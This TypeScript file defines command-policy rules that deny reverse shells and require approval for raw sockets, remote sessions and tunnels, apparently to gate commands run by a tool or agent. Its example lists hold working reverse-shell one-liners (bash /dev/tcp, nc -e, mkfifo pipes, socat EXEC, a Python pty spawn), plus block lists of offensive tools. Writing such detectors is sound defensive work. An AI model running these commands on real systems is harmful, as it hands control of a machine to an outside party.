// Rules about sessions on other machines, and doors into this one.
// Longer than most files: rules, each with its examples.

import { flagValues, hasFlag, operands } from '../arguments.ts';
import { inHome, isWithin, resolvePath } from '../paths.ts';
import { isOwnMachine } from '../scene.ts';
import { hostOf } from '../hosts.ts';
import { everywhere, type Rule } from '../rule.ts';
import { isProduction } from './cloud.ts';

const shell = /^(?:\/\S*\/)?(?:ba|z|da|k|a)?sh$|^(?:\/\S*\/)?(?:powershell|pwsh|cmd)(?:\.exe)?$/;

export const sessionRules: readonly Rule[] = [
  {
    id: 'reverse-shell',
    category: 'remote-session',
    severity: 'critical',
    then: 'deny',
    reason: 'Hands a shell of this machine to another machine.',
    when: everywhere,
    signs: ['reverse-shell'],
    programs: [
      'nc',
      'ncat',
      'netcat',
      'socat',
      'bash',
      'sh',
      'zsh',
      'dash',
      'exec',
      'telnet',
      'msfvenom',
      'msfconsole',
      'mkfifo',
      'openssl',
      'rustcat',
      'rcat',
      'pwncat',
      'chisel',
      'evil-winrm',
      'busybox',
      'awk',
      'gawk',
    ],
    command: ({ name, args, feeders }) => {
      if (/awk$/.test(name)) return args.some((arg) => /\/inet\/(?:tcp|udp)\//.test(arg) && /system|getline/.test(arg));
      if (name === 'nc' || name === 'ncat' || name === 'netcat' || name === 'rcat')
        return (
          (args.some((arg) => shell.test(arg)) && hasFlag(args, 'e', 'c', '--exec', '--sh-exec')) ||
          (args.some((arg) => /^-[a-z]*[ec]$/.test(arg)) && args.some((arg) => shell.test(arg)))
        );
      if (name === 'socat')
        return (
          args.some((arg) => /(?:^|,)(?:exec|system):/i.test(arg)) &&
          args.some((arg) => /^(?:tcp|udp|openssl|ssl|sctp)/i.test(arg))
        );
      if (/^msf|^pwncat|^evil-winrm/.test(name)) return true;
      return (
        /^(?:ba|z|da)?sh$/.test(name) &&
        hasFlag(args, 'i') &&
        feeders.some((feeder) => /^(?:cat|nc|ncat|netcat|telnet|mknod|openssl)$/.test(feeder.name)) &&
        feeders.some(
          (feeder) =>
            feeder.args.some((arg) => /fifo|\/tmp\/f\b|pipe|s_client/.test(arg)) ||
            /^n(?:c|cat|etcat)$|^telnet$/.test(feeder.name),
        )
      );
    },
    examples: [
      'bash -i >& /dev/tcp/203.0.113.5/4444 0>&1',
      'nc -e /bin/sh 203.0.113.5 4444',
      'rm /tmp/f; mkfifo /tmp/f; cat /tmp/f | sh -i 2>&1 | nc 203.0.113.5 4444 > /tmp/f',
      'socat TCP:203.0.113.5:4444 EXEC:/bin/sh',
      `python3 -c 'import socket,os,pty;s=socket.socket();s.connect(("203.0.113.5",4444));[os.dup2(s.fileno(),f) for f in (0,1,2)];pty.spawn("/bin/sh")'`,
    ],
    counterExamples: [
      'nc -z localhost 5432',
      'nc -l 8080',
      'socat TCP-LISTEN:8080,fork TCP:localhost:80',
      'bash -i',
      "python3 -c 'import socket; print(socket.gethostname())'",
    ],
  },
  {
    id: 'raw-socket',
    category: 'remote-session',
    severity: 'high',
    then: 'ask',
    reason: 'Opens a raw connection from the shell to another machine.',
    when: everywhere,
    host: ({ how, host, address, sends }, scene) =>
      how === 'socket' &&
      sends === 'output' &&
      address !== '' &&
      host !== null &&
      !isOwnMachine(host) &&
      !scene.approvedHosts.includes(host),
    examples: ['exec 5<>/dev/tcp/203.0.113.5/443', 'cat notes.txt | nc 203.0.113.5 9000'],
    counterExamples: ['nc -z example.com 443', 'echo ping | nc localhost 6379', 'echo > /dev/tcp/localhost/5432'],
  },
  {
    id: 'remote-session',
    category: 'remote-session',
    severity: 'medium',
    then: 'ask',
    reason: 'Opens a session on another machine, or in a running production container.',
    when: everywhere,
    programs: [
      'aws',
      'gcloud',
      'az',
      'kubectl',
      'oc',
      'k',
      'ssh',
      'mosh',
      'autossh',
      'telnet',
      'rlogin',
      'tsh',
      'teleport',
      'boundary',
      'enter-pssession',
      'invoke-command',
      'winrs',
      'psexec',
      'heroku',
      'fly',
      'flyctl',
      'railway',
      'vagrant',
      'doctl',
      'rdesktop',
      'xfreerdp',
      'evil-winrm',
      'wmic',
      'ecs',
      'sshpass',
    ],
    command: ({ name, args, elsewhere }, scene) => {
      if (elsewhere) return false;
      const words = operands(
        args,
        new Set([
          '-n',
          '--namespace',
          '-c',
          '--container',
          '--context',
          '--profile',
          '--region',
          '--project',
          '--zone',
          '-a',
          '--app',
          '--target',
        ]),
      );
      const [first, second] = words;
      switch (name) {
        case 'aws':
          return (
            (first === 'ssm' && /^(?:start-session|send-command)$/.test(second ?? '')) ||
            (first === 'ecs' && second === 'execute-command') ||
            (first === 'ec2-instance-connect' && /^(?:ssh|send-ssh-public-key|open-tunnel)$/.test(second ?? ''))
          );
        case 'gcloud':
          return (
            words.includes('ssh') || words.includes('start-iap-tunnel') || words.includes('connect-to-serial-port')
          );
        case 'az':
          return (
            words[0] === 'ssh' ||
            line(args, /vm run-command|containerapp exec|webapp ssh|bastion (?:ssh|rdp|tunnel)|serial-console connect/)
          );
        case 'kubectl':
        case 'oc':
        case 'k':
          if (first === 'debug' || first === 'rsh' || first === 'attach') return true;
          return (
            first === 'exec' &&
            (isProduction(args) ||
              (hasFlag(args, 't', '--tty') && args.slice(args.indexOf('exec')).some((arg) => shell.test(arg))))
          );
        case 'ssh':
        case 'mosh':
        case 'autossh':
        case 'sshpass': {
          if (hasFlag(args, 'V', 'G', 'Q') || (hasFlag(args, 'T') && args.some((arg) => /^git@/.test(arg))))
            return false;
          if (hasFlag(args, 'R', 'L', 'D', 'w', 'N')) return false;
          const target = operands(
            args,
            new Set('-b -c -D -E -e -F -I -i -J -L -l -m -O -o -p -Q -R -S -W -w -B'.split(' ')),
          )[0];
          if (target === undefined || name === 'sshpass') return name === 'sshpass';
          const host = hostOf(target);
          return (
            host !== null &&
            !(isOwnMachine(host) && host.includes('local')) &&
            !/^127\./.test(host) &&
            !scene.approvedHosts.includes(host) &&
            !/^git@/.test(target)
          );
        }
        case 'telnet':
          return first !== undefined && !isOwnMachine(hostOf(first) ?? '');
        case 'heroku':
          return first === 'run' || first === 'ps:exec';
        case 'fly':
        case 'flyctl':
          return first === 'ssh' && /^(?:console|sftp)$/.test(second ?? '');
        case 'railway':
          return first === 'ssh' || first === 'shell';
        case 'doctl':
          return line(args, /compute ssh/);
        case 'wmic':
          return args.some((arg) => /^\/node:/i.test(arg));
        case 'vagrant':
          return false;
        case 'invoke-command':
          return line(args, /-computername|-session/i);
        default:
          return true;
      }
    },
    examples: [
      'aws ssm start-session --target i-1',
      'gcloud compute ssh web-1',
      'kubectl exec -it web -- bash',
      'kubectl exec -n prod web -- ls',
      'ssh deploy@198.51.100.7 uptime',
      'Enter-PSSession server1',
    ],
    counterExamples: [
      'kubectl exec web -- ls',
      'kubectl logs web',
      'ssh -T git@github.com',
      'docker exec -it db psql',
      'ssh-keygen -l -f key.pub',
      'ssh localhost true',
    ],
  },
  {
    id: 'tunnel',
    category: 'remote-session',
    severity: 'high',
    then: 'ask',
    reason: 'Opens this machine, or a port of it, to other machines.',
    when: everywhere,
    programs: [
      'ngrok',
      'cloudflared',
      'localtunnel',
      'lt',
      'bore',
      'frpc',
      'chisel',
      'ssh',
      'autossh',
      'tailscale',
      'zerotier-cli',
      'serveo',
      'pagekite',
      'zrok',
      'devtunnel',
      'code',
      'inlets',
      'rathole',
      'gost',
      'sshuttle',
      'iodine',
      'dnscat2',
      'ptunnel',
      'nc',
      'ncat',
      'netcat',
      'socat',
      'vncserver',
      'x11vnc',
      'tmate',
      'sshd',
      'gotty',
      'ttyd',
      'upterm',
      'anydesk',
      'teamviewer',
      'expose',
      'loophole',
      'localxpose',
      'tunnelto',
      'playit',
      'http-server',
      'serve',
      'python',
      'python3',
      'php',
      'live-server',
    ],
    command: ({ name, args, elsewhere, folder }, { home }) => {
      if (elsewhere || args.some((arg) => arg === '--version' || arg === '--help' || arg === 'version')) return false;
      const open = (path: string | null): boolean =>
        path !== null && (isWithin(home, path) || inHome(path, home).startsWith('~/.'));
      switch (name) {
        case 'http-server':
        case 'serve':
        case 'live-server':
        case 'python':
        case 'python3':
        case 'php': {
          const serves = /^p/.test(name) ? args.includes('http.server') || args.includes('-S') : true;
          const given = operands(args, new Set(['-p', '-l', '-a', '-m', '-S', '-b', '--bind', '--port'])).map((word) =>
            resolvePath(word, folder, home),
          );
          const named = flagValues(args, '-d', '--directory', '-t').map((word) => resolvePath(word, folder, home));
          const root = [...named, ...given.filter((path) => path.includes('/'))][0] ?? folder;
          return serves && (root === home || open(root));
        }
        case 'ssh':
        case 'autossh':
          return (
            hasFlag(args, 'R', 'D', 'w') ||
            (hasFlag(args, 'L') &&
              !flagValues(args, '-L').every((spec) => /^(?:\d+|localhost|127\.0\.0\.1)/.test(spec)))
          );
        case 'tailscale':
          return /^(?:up|funnel|serve|ssh)$/.test(args[0] ?? '');
        case 'cloudflared':
          return args[0] === 'tunnel' || args[0] === 'access';
        case 'code':
          return args[0] === 'tunnel';
        case 'nc':
        case 'ncat':
        case 'netcat':
          return hasFlag(args, 'l', '--listen') && hasFlag(args, 'e', 'c', '--exec', '--sh-exec');
        case 'socat':
          return args.some((arg) => /listen/i.test(arg)) && args.some((arg) => /^(?:exec|system):/i.test(arg));
        case 'ngrok':
          return !/^(?:config|help|update|diagnose)$/.test(args[0] ?? '');
        default:
          return name !== 'sshd' || !hasFlag(args, 't', 'T');
      }
    },
    examples: [
      'ngrok http 3000',
      'cloudflared tunnel --url http://localhost:8080',
      'ssh -R 8080:localhost:22 x@203.0.113.5',
      'ssh -N -D 1080 x@203.0.113.5',
      'npx localtunnel --port 3000',
      'tailscale funnel 3000',
      'npx http-server ~',
      'cd ~ && python3 -m http.server',
    ],
    counterExamples: [
      'ssh -N -L 5432:localhost:5432 bastion',
      'tailscale status',
      'code .',
      'nc -l 9000',
      'python3 -m http.server 8000',
      'npx serve dist',
      'php -S localhost:8000',
    ],
  },
];

function line(args: readonly string[], pattern: RegExp): boolean {
  return pattern.test(args.join(' '));
}
